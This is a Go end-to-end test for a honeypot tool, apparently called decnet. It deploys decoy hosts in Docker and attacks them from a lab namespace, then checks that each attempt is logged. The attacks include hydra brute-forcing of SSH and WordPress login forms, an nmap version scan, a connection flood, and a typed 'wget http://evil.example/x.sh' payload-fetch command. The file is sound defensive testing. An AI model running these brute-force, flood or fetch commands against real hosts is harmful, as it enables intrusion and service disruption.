// Package e2e drives the real decnet binary end to end: a lab LAN, deckies on a real
// Docker engine, and real clients and attacker tools run from the lab's attacker
// namespace. One fleet is deployed and shared by every step, in order.
package e2e

import (
	"context"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"sort"
	"strings"
	"testing"
	"time"

	"decnet/internal/event"
	"decnet/internal/state"
	"decnet/internal/store"
	"decnet/internal/testenv"
)

// deckyStatus mirrors `decnet status --json`.
type deckyStatus struct {
	Name      string            `json:"name"`
	IP        string            `json:"ip"`
	MAC       string            `json:"mac"`
	Hostname  string            `json:"hostname"`
	OSFamily  string            `json:"os_family"`
	Distro    string            `json:"distro"`
	Archetype string            `json:"archetype"`
	Sysctls   map[string]string `json:"sysctls"`
	Base      containerStatus   `json:"base"`
	Services  []containerStatus `json:"services"`
}

type containerStatus struct {
	Name         string   `json:"name"`
	Container    string   `json:"container"`
	State        string   `json:"state"`
	Ports        []string `json:"ports"`
	PortsChecked bool     `json:"ports_checked"`
	ClosedPorts  []string `json:"closed_ports"`
}

func TestFleet(t *testing.T) {
	testenv.RequireRoot(t)
	testenv.RequireDocker(t)
	testenv.RequireTool(t, "sshpass", "ssh", "curl", "hydra", "nmap", "nsenter", "ip")
	bin := testenv.BuildDecnet(t)
	l := testenv.SharedLab(t)

	stateDir := t.TempDir()
	dir := t.TempDir()
	webIP := addrAt(l.Subnet, 10)
	ini := writeFile(t, dir, "fleet.ini", fmt.Sprintf(`# e2e fleet: an archetype, an amount group and a per-service subsection
[general]
net = %s
gw = %s
interface = %s

[web]
ip = %s
archetype = linux-server   ; ssh and http
distro = debian

[farm]
amount = 2
distro = ubuntu22
services = ssh, http

[farm.ssh]
users = root:hunter2, admin:admin

[farm.http]
server = apache
`, l.Subnet, l.Gateway, l.Parent, webIP))

	// A stale fleet from a crashed run would make this test lie: remove it first.
	if _, _, code := run(t, bin, "teardown", "--all", "--state-dir", stateDir); code != 0 {
		t.Log("no stale fleet to remove")
	}
	t.Cleanup(func() {
		if out, errs, code := run(t, bin, "teardown", "--all", "--state-dir", stateDir); code != 0 {
			t.Logf("cleanup teardown: exit %d: %s %s", code, out, errs)
		}
	})

	out, errs, code := run(t, bin, "deploy", "--config", ini, "--state-dir", stateDir)
	if code != 0 {
		t.Fatalf("deploy: exit %d\n%s\n%s", code, out, errs)
	}
	t.Logf("deploy:\n%s\n%s", errs, out)
	// Deploy waits for the 6 service ports (ssh and http on 3 deckies) to open.
	if !strings.Contains(errs, "waiting for services: 6 of 6 ports open") {
		t.Errorf("deploy did not report every port open:\n%s", errs)
	}
	pipeline := startRun(t, bin, stateDir)

	var fleet []deckyStatus
	decodeJSON(t, mustRun(t, bin, "status", "--json", "--state-dir", stateDir), &fleet)
	checkAnnounced(t, l, fleet)
	if len(fleet) != 3 {
		t.Fatalf("status shows %d deckies, want 3: %+v", len(fleet), fleet)
	}
	byName := map[string]deckyStatus{}
	for _, d := range fleet {
		byName[d.Name] = d
	}
	for _, n := range []string{"web", "farm-01", "farm-02"} {
		if _, ok := byName[n]; !ok {
			t.Fatalf("decky %s missing from status: %+v", n, fleet)
		}
	}
	if byName["web"].IP != webIP.String() {
		t.Errorf("web has IP %s, want the configured %s", byName["web"].IP, webIP)
	}

	t.Run("status shows every container running", func(t *testing.T) {
		for _, d := range fleet {
			if d.Base.State != "running" {
				t.Errorf("%s base container %s is %s", d.Name, d.Base.Container, d.Base.State)
			}
			if len(d.Services) != 2 {
				t.Errorf("%s has %d services, want ssh and http", d.Name, len(d.Services))
			}
			for _, s := range d.Services {
				if s.State != "running" {
					t.Errorf("%s/%s container %s is %s", d.Name, s.Name, s.Container, s.State)
				}
				if !s.PortsChecked || len(s.Ports) != 1 || len(s.ClosedPorts) != 0 {
					t.Errorf("%s/%s: ports %v checked %v, closed %v; want its port checked and open", d.Name, s.Name, s.Ports, s.PortsChecked, s.ClosedPorts)
				}
			}
		}
	})

	t.Run("every decky answers on each port at its IP with its MAC", func(t *testing.T) {
		for _, d := range fleet {
			banner, err := attacker(t, l, 20*time.Second, "bash", "-c",
				fmt.Sprintf("exec 3<>/dev/tcp/%s/22 && timeout 5 head -n1 <&3", d.IP))
			if err != nil || !strings.HasPrefix(banner, "SSH-2.0-OpenSSH_") {
				t.Errorf("%s %s:22 from the attacker namespace: %v, banner %q", d.Name, d.IP, err, banner)
			}
			status, err := attacker(t, l, 20*time.Second, "bash", "-c",
				fmt.Sprintf("exec 3<>/dev/tcp/%s/80 && printf 'HEAD / HTTP/1.0\\r\\n\\r\\n' >&3 && timeout 5 head -n1 <&3", d.IP))
			if err != nil || !strings.HasPrefix(status, "HTTP/1.") {
				t.Errorf("%s %s:80 from the attacker namespace: %v, status line %q", d.Name, d.IP, err, status)
			}
			neigh, err := attacker(t, l, 5*time.Second, "ip", "neigh", "show", d.IP)
			if err != nil || !strings.Contains(strings.ToLower(neigh), strings.ToLower(d.MAC)) {
				t.Errorf("%s: the attacker sees %q for %s, want MAC %s", d.Name, strings.TrimSpace(neigh), d.IP, d.MAC)
			}
			if strings.HasPrefix(strings.ToLower(d.MAC), "02:42") {
				t.Errorf("%s has Docker's MAC prefix %s", d.Name, d.MAC)
			}
		}
	})

	t.Run("persona sysctls are set inside each base namespace", func(t *testing.T) {
		for _, d := range fleet {
			if len(d.Sysctls) == 0 {
				t.Fatalf("%s: status shows no sysctls", d.Name)
			}
			pid := strings.TrimSpace(host(t, "docker", "inspect", "-f", "{{.State.Pid}}", d.Base.Container))
			for k, want := range d.Sysctls {
				path := "/proc/sys/" + strings.ReplaceAll(k, ".", "/")
				got := strings.TrimSpace(host(t, "nsenter", "-t", pid, "-n", "cat", path))
				if strings.Join(strings.Fields(got), " ") != strings.Join(strings.Fields(want), " ") {
					t.Errorf("%s: %s = %q, want %q", d.Name, k, got, want)
				}
			}
		}
	})

	farm := byName["farm-01"]
	farmSSH := containerOf(t, farm, "ssh")
	farmHTTP := containerOf(t, farm, "http")

	t.Run("openssh client: persona banner, wrong password refused, shell with the right one", func(t *testing.T) {
		sshArgs := []string{"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
			"-o", "PreferredAuthentications=password,keyboard-interactive", "-o", "PubkeyAuthentication=no",
			"-o", "ConnectTimeout=10", "-o", "NumberOfPasswordPrompts=1", "-v"}
		out, err := attacker(t, l, 30*time.Second, "sshpass", append([]string{"-p", "wrong-pass", "ssh"},
			append(sshArgs, "root@"+farm.IP, "id")...)...)
		if err == nil {
			t.Fatalf("ssh with a wrong password succeeded:\n%s", out)
		}
		m := regexp.MustCompile(`remote software version (.+)`).FindStringSubmatch(out)
		if m == nil || !strings.HasPrefix(m[1], "OpenSSH_") || !strings.Contains(m[1], "Ubuntu") {
			t.Errorf("ssh saw server version %v, want the ubuntu22 persona's OpenSSH:\n%s", m, out)
		}
		waitEvents(t, farmSSH, 1, 10*time.Second, "failed auth", func(e event.Event) bool {
			return e.Type == event.Auth && e.Fields["username"] == "root" && e.Fields["password"] == "wrong-pass" &&
				e.Fields["outcome"] == "failure" && e.AttackerIP == l.AttackerIP.String()
		})

		out, err = attacker(t, l, 30*time.Second, "sshpass", append([]string{"-p", "hunter2", "ssh"},
			append(sshArgs, "root@"+farm.IP, "uname -a; cat /etc/os-release")...)...)
		if err != nil {
			t.Fatalf("ssh with the persona's credential failed: %v\n%s", err, out)
		}
		if !strings.Contains(out, "Linux ") || !strings.Contains(out, "Ubuntu") {
			t.Errorf("the emulated shell does not tell the ubuntu22 story:\n%s", out)
		}
		waitEvents(t, farmSSH, 1, 10*time.Second, "successful auth", func(e event.Event) bool {
			return e.Type == event.Auth && e.Fields["password"] == "hunter2" && e.Fields["outcome"] == "success"
		})

		// An interactive session with a PTY: typed commands come back as events.
		out, err = attacker(t, l, 30*time.Second, "bash", "-c",
			fmt.Sprintf("(sleep 2; printf 'whoami\\n'; sleep 1; printf 'wget http://evil.example/x.sh\\n'; sleep 1; printf 'exit\\n') | "+
				"sshpass -p admin ssh -tt %s admin@%s", strings.Join(sshArgs[:len(sshArgs)-1], " "), farm.IP))
		if err != nil {
			t.Fatalf("interactive ssh: %v\n%s", err, out)
		}
		waitEvents(t, farmSSH, 1, 10*time.Second, "typed command", func(e event.Event) bool {
			return e.Type == event.Command && e.Fields["command"] == "whoami"
		})
		waitEvents(t, farmSSH, 1, 10*time.Second, "download attempt", func(e event.Event) bool {
			return e.Type == event.DownloadAttempt && e.Fields["url"] == "http://evil.example/x.sh"
		})
	})

	t.Run("curl sees the persona's headers and a POSTed login is captured", func(t *testing.T) {
		out, err := attacker(t, l, 20*time.Second, "curl", "-sS", "-D", "-", "-o", "/dev/null", "http://"+farm.IP+"/")
		if err != nil {
			t.Fatalf("curl: %v\n%s", err, out)
		}
		if !regexp.MustCompile(`(?m)^Server: Apache/2\.4\.\d+ \(Ubuntu\)\r?$`).MatchString(out) {
			t.Errorf("farm-01 (apache on ubuntu22) answered headers:\n%s", out)
		}
		out, err = attacker(t, l, 20*time.Second, "curl", "-sS", "-d", "log=admin&pwd=S3cr%5Dt%22x", "http://"+farm.IP+"/wp-login.php")
		if err != nil {
			t.Fatalf("curl POST: %v\n%s", err, out)
		}
		waitEvents(t, farmHTTP, 1, 10*time.Second, "posted credential", func(e event.Event) bool {
			return e.Type == event.Auth && e.Fields["username"] == "admin" && e.Fields["password"] == `S3cr]t"x` &&
				e.AttackerIP == l.AttackerIP.String()
		})
	})

	t.Run("hydra: every attempted pair is a credential event", func(t *testing.T) {
		web := byName["web"]
		webSSH, webHTTP := containerOf(t, web, "ssh"), containerOf(t, web, "http")
		pw := []string{"alpha1", "bravo2", "charlie3", "delta4", "echo5"}
		pwFile := writeFile(t, dir, "passwords.txt", strings.Join(pw, "\n")+"\n")
		out, _ := attacker(t, l, 3*time.Minute, "hydra", "-l", "oracle", "-P", pwFile, "-t", "2", "-I", "-f", "ssh://"+web.IP)
		t.Logf("hydra ssh:\n%s", out)
		for _, p := range pw {
			waitEvents(t, webSSH, 1, 20*time.Second, "hydra ssh pair oracle/"+p, func(e event.Event) bool {
				return e.Type == event.Auth && e.Fields["username"] == "oracle" && e.Fields["password"] == p
			})
		}
		out, _ = attacker(t, l, 3*time.Minute, "hydra", "-l", "editor", "-P", pwFile, "-t", "2", "-I", web.IP,
			"http-post-form", "/wp-login.php:log=^USER^&pwd=^PASS^:F=incorrect")
		t.Logf("hydra http-post-form:\n%s", out)
		for _, p := range pw {
			waitEvents(t, webHTTP, 1, 20*time.Second, "hydra http pair editor/"+p, func(e event.Event) bool {
				return e.Type == event.Auth && e.Fields["username"] == "editor" && e.Fields["password"] == p
			})
		}
	})

	t.Run("nmap -sV names the persona's products", func(t *testing.T) {
		for _, tc := range []struct {
			decky      string
			ssh, httpd *regexp.Regexp
		}{
			{"web", regexp.MustCompile(`22/tcp\s+open\s+ssh\s+OpenSSH [\d.]+p\d+ Debian`), regexp.MustCompile(`80/tcp\s+open\s+http\s+Apache httpd 2\.4\.\d+ \(\(Debian\)\)`)},
			{"farm-01", regexp.MustCompile(`22/tcp\s+open\s+ssh\s+OpenSSH [\d.]+p\d+ Ubuntu`), regexp.MustCompile(`80/tcp\s+open\s+http\s+Apache httpd 2\.4\.\d+ \(\(Ubuntu\)\)`)},
		} {
			d := byName[tc.decky]
			out, err := attacker(t, l, 5*time.Minute, "nmap", "-Pn", "-sV", "-p22,80", "--version-intensity", "5", d.IP)
			if err != nil {
				t.Fatalf("nmap: %v\n%s", err, out)
			}
			if !tc.ssh.MatchString(out) || !tc.httpd.MatchString(out) {
				t.Errorf("nmap -sV of %s does not name the persona's products:\n%s", tc.decky, out)
			}
		}
	})

	t.Run("every event reaches the database exactly once, credentials in bounty", func(t *testing.T) {
		var want []event.Event
		for _, d := range fleet {
			for _, s := range d.Services {
				want = append(want, containerEvents(t, s.Container)...)
			}
		}
		st, err := store.Open(context.Background(), store.DefaultDSN(stateDir))
		if err != nil {
			t.Fatal(err)
		}
		defer st.Close()
		var stored map[string]store.LogRow
		deadline := time.Now().Add(60 * time.Second)
		for {
			rows, err := st.Logs(context.Background(), store.LogQuery{Limit: store.MaxLimit})
			if err != nil {
				t.Fatal(err)
			}
			stored = map[string]store.LogRow{}
			for _, r := range rows {
				if _, dup := stored[r.Event.ID]; dup {
					t.Fatalf("event %s stored twice", r.Event.ID)
				}
				stored[r.Event.ID] = r
			}
			missing := 0
			for _, e := range want {
				if _, ok := stored[e.ID]; !ok {
					missing++
				}
			}
			if missing == 0 {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("%d of %d events the deckies wrote are not in the database after 60s (decnet run output:\n%s)", missing, len(want), pipeline.String())
			}
			time.Sleep(500 * time.Millisecond)
		}
		for _, e := range want {
			got := stored[e.ID]
			if got.Decky != e.Decky || got.Service != e.Service || got.AttackerIP != e.AttackerIP || got.Type != e.Type ||
				!reflect.DeepEqual(got.Fields, e.Fields) || !got.Time.Equal(e.Time) {
				t.Errorf("event %s differs in the database:\nwrote  %+v\nstored %+v", e.ID, e, got.Event)
			}
		}
		creds, err := st.Bounty(context.Background(), store.BountyQuery{Type: "credential", Decky: "farm-01", Service: "ssh", Limit: 1000})
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, b := range creds {
			if strings.Contains(string(b.Payload), `"hunter2"`) && b.AttackerIP == l.AttackerIP.String() {
				found = true
			}
		}
		if !found {
			t.Errorf("the hunter2 credential is not in bounty (%d ssh credentials of farm-01)", len(creds))
		}
		t.Logf("%d events from %d deckies stored once each; %d ssh credentials of farm-01 in bounty", len(want), len(fleet), len(creds))
	})

	t.Run("a flood of connections leaves the services up with bounded memory", func(t *testing.T) {
		// From the host, through the hairpin, as an attacker flooding one decky would.
		d := byName["farm-02"]
		for _, port := range []int{22, 80} {
			svc := map[int]string{22: "ssh", 80: "http"}[port]
			ctr := containerOf(t, d, svc)
			held, refused := flood(t, netip.MustParseAddr(d.IP), port, 3000, 300)
			mem := memUsage(t, ctr)
			inspect := strings.TrimSpace(host(t, "docker", "inspect", "-f", "{{.RestartCount}} {{.State.OOMKilled}} {{.State.Running}}", ctr))
			t.Logf("%s: %d connections served, %d refused by the runtime's limits, memory %.1f MiB, restarts/oom/running: %s",
				ctr, held, refused, float64(mem)/(1<<20), inspect)
			if inspect != "0 false true" {
				t.Errorf("%s did not survive the flood: restarts/oom/running = %s", ctr, inspect)
			}
			if mem > 64<<20 {
				t.Errorf("%s uses %d MiB after the flood (limit is 256 MiB, expected well under 64)", ctr, mem>>20)
			}
			out, err := attacker(t, l, 20*time.Second, "bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/%s/%d && printf 'HEAD / HTTP/1.0\\r\\n\\r\\n' >&3 && timeout 5 head -n1 <&3", d.IP, port))
			if err != nil || out == "" {
				t.Errorf("%s:%d does not answer after the flood: %v %q", d.IP, port, err, out)
			}
		}
	})

	t.Run("redeploy of the same config is idempotent", func(t *testing.T) {
		before := host(t, "docker", "ps", "-q", "--no-trunc", "--filter", "label=decnet.project=decnet")
		mustRun(t, bin, "deploy", "--config", ini, "--state-dir", stateDir)
		after := host(t, "docker", "ps", "-q", "--no-trunc", "--filter", "label=decnet.project=decnet")
		if sortedLines(before) != sortedLines(after) {
			t.Errorf("redeploy replaced containers:\nbefore:\n%s\nafter:\n%s", before, after)
		}
	})

	t.Run("status names the port of a stopped service as closed", func(t *testing.T) {
		var ctr string
		for _, s := range byName["farm-01"].Services {
			if s.Name == "http" {
				ctr = s.Container
			}
		}
		host(t, "docker", "stop", "-t", "2", ctr)
		defer func() {
			host(t, "docker", "start", ctr)
			deadline := time.Now().Add(30 * time.Second)
			for {
				out := mustRun(t, bin, "status", "--state-dir", stateDir)
				if !strings.Contains(out, "closed") {
					return
				}
				if time.Now().After(deadline) {
					t.Fatalf("farm-01's http port did not reopen after docker start:\n%s", out)
				}
				time.Sleep(250 * time.Millisecond)
			}
		}()
		table := mustRun(t, bin, "status", "--state-dir", stateDir)
		if !strings.Contains(table, "http(exited; 80/tcp closed)") {
			t.Errorf("status does not name farm-01's closed http port:\n%s", table)
		}
		var now []deckyStatus
		decodeJSON(t, mustRun(t, bin, "status", "--json", "--state-dir", stateDir), &now)
		for _, d := range now {
			for _, s := range d.Services {
				stopped := d.Name == "farm-01" && s.Name == "http"
				if got := strings.Join(s.ClosedPorts, ","); stopped && got != "80/tcp" || !stopped && got != "" {
					t.Errorf("%s/%s: closed ports %q", d.Name, s.Name, got)
				}
			}
		}
	})

	t.Run("teardown --id removes exactly one whole decky", func(t *testing.T) {
		mustRun(t, bin, "teardown", "--id", "farm-02", "--state-dir", stateDir)
		names := host(t, "docker", "ps", "-a", "--format", "{{.Names}}", "--filter", "label=decnet.project=decnet")
		for _, d := range fleet {
			for _, c := range append([]containerStatus{d.Base}, d.Services...) {
				present := strings.Contains("\n"+names, "\n"+c.Container+"\n")
				if d.Name == "farm-02" && present {
					t.Errorf("container %s of farm-02 survived teardown --id", c.Container)
				}
				if d.Name != "farm-02" && !present {
					t.Errorf("container %s of %s was removed by teardown --id farm-02", c.Container, d.Name)
				}
			}
		}
		st, err := state.Load(stateDir)
		if err != nil || st == nil {
			t.Fatalf("state after teardown --id: %v", err)
		}
		if _, ok := st.Fleet.Decky("farm-02"); ok || len(st.Fleet.Deckies) != 2 {
			t.Errorf("state still lists farm-02 or lost others: %d deckies", len(st.Fleet.Deckies))
		}
	})

	t.Run("teardown --all leaves nothing behind", func(t *testing.T) {
		mustRun(t, bin, "teardown", "--all", "--state-dir", stateDir)
		if names := strings.TrimSpace(host(t, "docker", "ps", "-a", "-q", "--filter", "label=decnet.project=decnet")); names != "" {
			t.Errorf("containers left: %s", names)
		}
		if nets := strings.TrimSpace(host(t, "docker", "network", "ls", "-q", "--filter", "name=^decnet_lan$")); nets != "" {
			t.Errorf("network decnet_lan left: %s", nets)
		}
		if links := host(t, "ip", "-o", "link", "show"); strings.Contains(links, "decnet_macvlan0") {
			t.Errorf("hairpin link left:\n%s", links)
		}
		for _, d := range fleet {
			if r := strings.TrimSpace(host(t, "ip", "route", "show", "match", d.IP)); strings.Contains(r, "decnet_") {
				t.Errorf("route to %s left: %s", d.IP, r)
			}
		}
		if _, err := os.Stat(filepath.Join(stateDir, "decnet-state.json")); !os.IsNotExist(err) {
			t.Errorf("state file left behind (stat: %v)", err)
		}
		var after []deckyStatus
		decodeJSON(t, mustRun(t, bin, "status", "--json", "--state-dir", stateDir), &after)
		if len(after) != 0 {
			t.Errorf("status after teardown shows %d deckies", len(after))
		}
	})
}

func containerOf(t *testing.T, d deckyStatus, svc string) string {
	t.Helper()
	for _, s := range d.Services {
		if s.Name == svc {
			return s.Container
		}
	}
	t.Fatalf("decky %s has no %s service", d.Name, svc)
	return ""
}

func addrAt(p netip.Prefix, n int) netip.Addr {
	a := p.Masked().Addr().As4()
	a[3] += byte(n)
	return netip.AddrFrom4(a)
}

func sortedLines(s string) string {
	lines := strings.Fields(s)
	sort.Strings(lines)
	return strings.Join(lines, "\n")
}
